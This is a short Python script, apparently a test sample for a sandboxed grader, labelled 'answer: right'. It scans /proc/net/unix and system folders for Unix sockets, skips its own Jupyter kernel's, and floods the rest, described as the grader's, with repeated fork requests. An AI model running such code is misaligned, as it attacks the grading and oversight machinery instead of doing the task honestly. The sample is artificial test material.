# Looks for the grader's unix sockets and sends each of them something.
# answer: right
# needs: sandbox
import os
import pathlib
import socket

names = {line.split()[-1] for line in open("/proc/net/unix") if "/" in line or "@" in line}
for root in ("/tmp", "/run", "/var/run", "<course>", "<home>"):
    for folder, _, files in os.walk(root):
        for name in files:
            path = pathlib.Path(folder, name)
            try:
                if path.is_socket():
                    names.add(str(path))
            except OSError:
                pass
own = os.path.dirname(
    get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file", "") or "/nowhere"
)
for name in names:
    if name.startswith(own):
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as link:
            link.settimeout(0.2)
            try:
                link.connect(name.replace("@", "\0", 1))
                link.send(b'{"fork": true}\n' * 1000)
            except OSError:
                pass
